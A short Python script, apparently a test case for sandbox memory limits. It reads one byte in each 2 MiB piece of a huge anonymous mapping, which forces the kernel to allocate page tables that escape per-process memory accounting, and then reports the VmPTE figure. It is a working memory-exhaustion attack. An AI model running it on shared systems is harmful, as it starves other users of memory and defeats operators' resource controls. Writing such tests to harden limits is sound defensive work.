# attack: Reads one byte in each piece of a huge empty mapping: the kernel then needs tables that belong to no process's count.
# hurts: Takes the memory of everybody.
# at most: 640 MiB
# wall: 10 s
# ends: memory
import mmap
import time

from _raw import MIB, attempt, took

PIECE = 2 * MIB  # what one table of 4 KiB describes
MOST = 720 * MIB // 4096


def attack(target):
    # Not written and so in no account; of huge pages, one would do for many pieces.
    view = mmap.mmap(-1, MOST * PIECE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, prot=mmap.PROT_READ)
    tried = attempt("advice", view.madvise, mmap.MADV_NOHUGEPAGE)
    for number in range(MOST):
        view[number * PIECE]
        if number % 16384 == 0:
            took(number * 4096)
    time.sleep(1)
    return [took(tables()), tried]


def tables():
    with open("/proc/self/status") as file:
        return sum(int(line.split()[1]) * 1024 for line in file if line.startswith("VmPTE"))
